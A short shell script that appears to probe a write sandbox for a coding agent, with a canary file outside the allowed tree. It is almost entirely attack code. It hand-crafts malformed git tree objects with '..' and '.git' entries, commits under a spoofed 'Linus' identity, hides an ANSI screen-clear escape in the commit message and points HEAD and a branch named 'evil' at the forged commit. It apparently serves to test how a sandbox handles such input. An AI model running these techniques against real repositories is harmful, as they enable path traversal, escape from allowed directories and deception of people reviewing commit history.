#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: malformed objects (tree entry .git and ..), spoofed author, ANSI message, committed inside
B=$(echo pw | git hash-object -w --stdin); T=$(printf '100644 blob %s\t.gitx\n' $B | git mktree)
node -e 'const cp=require("child_process");const b=Buffer.from(process.argv[1],"hex");const e=(m,n,h)=>Buffer.concat([Buffer.from(m+" "+n+"\0"),h]);const t=Buffer.concat([e("100644","..",b),e("100644",".git",b)]);require("fs").writeFileSync(process.env.HOME+"/t",t)' $B; T=$(git hash-object -w --literally -t tree $HOME/t)
K=$(GIT_AUTHOR_NAME=Linus GIT_AUTHOR_EMAIL=l@k GIT_COMMITTER_NAME=Linus GIT_COMMITTER_EMAIL=l@k git commit-tree -p HEAD -m "$(printf 'ok\033[2Jcleared')" $T); git update-ref HEAD $K; git update-ref refs/heads/evil $K
